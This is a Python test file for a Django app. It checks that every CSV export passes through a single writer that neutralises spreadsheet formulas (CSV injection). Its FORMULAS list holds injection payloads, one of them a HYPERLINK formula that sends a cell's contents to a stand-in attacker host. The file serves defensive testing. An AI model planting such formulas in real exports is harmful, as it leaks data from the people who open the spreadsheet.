"""Every CSV export goes through one writer that defuses spreadsheet formulas (OWASP "CSV injection")."""
from __future__ import annotations

import csv
import io
import re
from pathlib import Path

from django.conf import settings
from django.urls import reverse

from connector import services
from connector.models import Organisation
from wizard import csv_export

FORMULAS = ['=HYPERLINK("http://evil.test/?"&A1,"Click")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1"]


def cells(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))


def test_a_cell_starting_with_a_formula_character_is_quoted_as_text():
    for formula in FORMULAS:
        assert csv_export.cell(formula) == "'" + formula
    for harmless in ["Acme", "", "1.5", "a=b", "O'Brien", 42, None]:
        assert csv_export.cell(harmless) == ("" if harmless is None else str(harmless))


def test_support_export_defuses_organisation_names_that_are_formulas(support_client, organisation):
    for n, formula in enumerate(FORMULAS):
        admin = services.user_create(username=f"evil{n}", email=f"e{n}@evil.test", password="Xx-12345678")
        services.organisation_create(name=formula, slug=f"evil-{n}", admin=admin)
    response = support_client.get(reverse("dashboard_export"))
    assert response.status_code == 200
    names = {row[0] for row in cells(response)[1:]}
    assert names == {"Acme Ltd", *("'" + formula for formula in FORMULAS)}
    assert Organisation.objects.count() == 1 + len(FORMULAS)


def test_every_csv_export_uses_the_one_writer():
    """No module but wizard/csv_export.py builds CSV itself (a new export must use it)."""
    offenders = []
    for folder in ("wizard", "connector", "config", "simulator"):
        for path in (Path(settings.BASE_DIR) / folder).rglob("*.py"):
            if path.name == "csv_export.py":
                continue
            text = path.read_text()
            if re.search(r"^\s*import csv\b|^\s*from csv import|csv\.(Dict)?[Ww]riter", text, re.MULTILINE):
                offenders.append(str(path))
    assert offenders == []
